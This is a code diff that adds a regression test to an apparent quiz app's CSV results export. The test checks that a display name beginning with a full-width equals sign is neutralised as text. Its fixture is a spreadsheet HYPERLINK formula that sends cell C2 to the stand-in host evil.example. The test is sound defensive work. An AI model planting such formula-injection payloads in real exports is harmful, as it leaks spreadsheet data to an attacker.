@@ -364,4 +364,21 @@ NUMERIC_YEAR,Which year was it?,,,,1700,Because.
     // Still RFC 4180: our importer (and a spreadsheet that splits on commas) reads the name back.
     expect(parseCsvRecords(text).records[1]?.cells[0]).toBe(name);
   });
+
+  it('a display name starting with a full-width ＝ is marked as text (probe 7b)', async () => {
+    // Display names keep full-width punctuation (only control characters and < > are refused);
+    // spreadsheets read U+FF1D as "=", and `neutralise` looked for the ASCII sign only.
+    const name = '\uFF1DHYPERLINK("http://evil.example/?"&C2,"Open")';
+    expect(checkDisplayName(name)).toMatchObject({ ok: true, nickname: name });
+    const results = await createTeacherWithSet(db, { questions: 1 });
+    const player = await createStudent(db, { displayName: name });
+    const run = as(api, player.token);
+    const started = await ok<{ startAttempt: { id: string } }>(run(PLAY, { id: results.set.id }));
+    await ok(run(ANSWER, { a: started.startAttempt.id, p: 0, r: results.questions[0]?.right }));
+    await ok(run(FINISH, { a: started.startAttempt.id }));
+    const file = await ok<{ exportSetResults: { content: string } }>(
+      as(api, results.teacherToken)(RESULTS, { id: results.set.id, format: 'CSV' }),
+    );
+    expect(parseCsvRecords(file.exportSetResults.content).records[1]?.cells[0]).toBe(`'${name}`);
+  });
 });
